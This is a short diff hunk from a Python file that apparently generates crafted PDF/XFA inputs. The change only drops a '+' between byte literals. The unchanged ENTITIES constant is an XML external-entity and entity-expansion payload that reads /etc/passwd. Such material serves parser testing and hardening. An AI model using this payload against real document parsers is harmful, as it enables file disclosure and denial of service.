@@ -28,7 +28,7 @@ XFA = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://
 <subform name="form"><field name="BIN"/></subform></template></xdp:xdp>"""
 ENTITIES = (
     b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:"""
-    + b"""///etc/passwd"><!ENTITY a "&b;&b;&b;&b;&b;&b;">
+    b"""///etc/passwd"><!ENTITY a "&b;&b;&b;&b;&b;&b;">
 <!ENTITY b "&c;&c;&c;&c;&c;&c;&c;&c;">]><x>&a;&f;</x>"""
 )
 PLEASE_WAIT = b"BT /F1 14 Tf 60 700 Td (Please wait...) Tj 0 -30 Td (If this message is not eventually replaced) Tj ET"
